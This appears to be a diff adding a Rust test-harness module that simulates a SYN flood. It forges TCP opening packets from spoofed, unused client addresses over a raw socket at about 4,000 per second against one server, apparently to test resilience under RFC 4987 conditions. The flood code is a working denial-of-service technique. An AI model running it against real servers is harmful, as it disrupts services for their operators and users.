@@ -1,0 +1,77 @@
+//! Openings from addresses of a client's network that nobody has (RFC 4987, section 2).
+
+use std::net::{IpAddr, SocketAddr};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use etherparse::PacketBuilder;
+use socket2::{Domain, Protocol, Socket, Type};
+
+use crate::common::world::{CLIENTS, Version, World, address, start};
+
+/// IPPROTO_RAW: packets with their IP header (raw(7), and RFC 3542, section 3).
+const RAW: i32 = 255;
+/// How long it goes on, and how many openings it sends every [`TICK`]: 4,000 in a second.
+const TIME: Duration = Duration::from_secs(6);
+const TICK: Duration = Duration::from_millis(10);
+const EACH: u64 = 40;
+/// The hosts of the client's network that nobody is.
+const HOSTS: std::ops::Range<u8> = 100..250;
+
+/// Somebody who sends forged openings to one server.
+#[derive(Debug)]
+pub(crate) struct Flood {
+    sent: Arc<AtomicU64>,
+    over: Arc<AtomicBool>,
+}
+
+impl Flood {
+    /// Begins, from the client's machine.
+    pub(crate) fn start(world: &World, version: Version, server: SocketAddr) -> Flood {
+        let flood = Flood { sent: Arc::default(), over: Arc::default() };
+        let (sent, over) = (flood.sent.clone(), flood.over.clone());
+        start(&world.client, move || {
+            let domain = if server.is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
+            let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(RAW))).unwrap();
+            let begin = Instant::now();
+            while begin.elapsed() < TIME {
+                for _ in 0..EACH {
+                    let number = sent.fetch_add(1, Ordering::Relaxed);
+                    let packet = opening(version, number, server);
+                    // The device may be full for a moment.
+                    let _ = socket.send_to(&packet, &SocketAddr::new(server.ip(), 0).into());
+                }
+                thread::sleep(TICK);
+            }
+            over.store(true, Ordering::Relaxed);
+        });
+        flood
+    }
+
+    /// Whether the last has been sent.
+    pub(crate) fn is_over(&self) -> bool {
+        self.over.load(Ordering::Relaxed)
+    }
+
+    /// How many have been sent.
+    pub(crate) fn sent(&self) -> u64 {
+        self.sent.load(Ordering::Relaxed)
+    }
+}
+
+/// An opening with an address and a port of its own.
+fn opening(version: Version, number: u64, server: SocketAddr) -> Vec<u8> {
+    let hosts = u64::from(HOSTS.end - HOSTS.start);
+    let host = HOSTS.start + (number % hosts) as u8;
+    let port = 10_000 + (number / hosts) as u16;
+    let packet = match (address(version, CLIENTS, host), server.ip()) {
+        (IpAddr::V4(from), IpAddr::V4(to)) => PacketBuilder::ipv4(from.octets(), to.octets(), 64),
+        (IpAddr::V6(from), IpAddr::V6(to)) => PacketBuilder::ipv6(from.octets(), to.octets(), 64),
+        _ => panic!("one packet has one version"),
+    };
+    let mut octets = Vec::new();
+    packet.tcp(port, server.port(), number as u32, 64_240).syn().write(&mut octets, &[]).unwrap();
+    octets
+}
